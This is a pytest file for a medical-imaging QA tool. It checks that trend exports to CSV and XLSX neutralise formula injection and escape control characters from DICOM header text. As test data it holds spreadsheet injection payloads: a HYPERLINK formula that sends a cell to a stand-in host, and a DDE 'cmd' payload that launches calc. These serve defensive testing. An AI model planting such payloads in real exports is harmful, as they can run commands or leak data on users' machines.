"""The trends' spreadsheets carry text from DICOM headers (protocol and station names): it is written as
text, never as a formula a spreadsheet would run ("CSV injection"), and control characters are
shown escaped; an export that cannot be written leaves nothing behind and stores nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import replace

import pytest
from trend_studies import SCANNERS, save_all, study

from qa.workflows.trends import store_trends

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)", "\tTab", "CaScore\x1b[31m red"]


@pytest.fixture
def hostile_store(tmp_path):
    url = f"sqlite:///{tmp_path / 'qa.sqlite'}"
    planted = [study(i, "force", protocol, dt.date(2026, 1, 1 + i), 50.0 + i) for i, protocol in enumerate(HOSTILE)]
    evil = replace(SCANNERS["force"], station_name="=cmd|' /C calc'!A0", device_serial_number="=1+1")
    ok = study(99, "force", "ok", dt.date(2026, 1, 20), 60.0)
    planted.append(replace(ok, record=replace(ok.record, scanner=evil)))
    save_all(url, planted)
    return url


def test_no_cell_of_the_csv_is_a_formula_and_control_characters_are_escaped(hostile_store, tmp_path):
    path = tmp_path / "t.csv"
    store_trends("dose", db=hostile_store, by="scanner,protocol", csv=path)
    text = path.read_text(encoding="utf-8-sig")
    assert "\x1b" not in text and "\\x1b[31m" in text
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    protocols = [r["Protocol"] for r in csv.DictReader(io.StringIO(text))]
    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")" in protocols and "'+1+1" in protocols and "'\tTab" in protocols


def test_every_text_cell_of_the_xlsx_is_a_string_never_a_formula(hostile_store, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "t.xlsx"
    store_trends("dose", db=hostile_store, by="scanner,protocol", xlsx=path)
    book = load_workbook(path)  # not read-only: cell types are kept
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert HOSTILE[0] in texts and "=cmd|' /C calc'!A0" in texts and "CaScore\\x1b[31m red" in texts
    assert not any("\x1b" in t for t in texts)


def test_an_export_that_cannot_be_written_is_exit_2_and_leaves_nothing(hostile_store, tmp_path, qa_main):
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "dose.xlsx").mkdir()  # a folder where the file should go
    code, out, err = qa_main("trends", "dose", "--db", hostile_store, "--xlsx", folder / "dose.xlsx")
    assert code == 2 and "folder" in err
    assert [p.name for p in folder.iterdir()] == ["dose.xlsx"] and not any((folder / "dose.xlsx").iterdir())
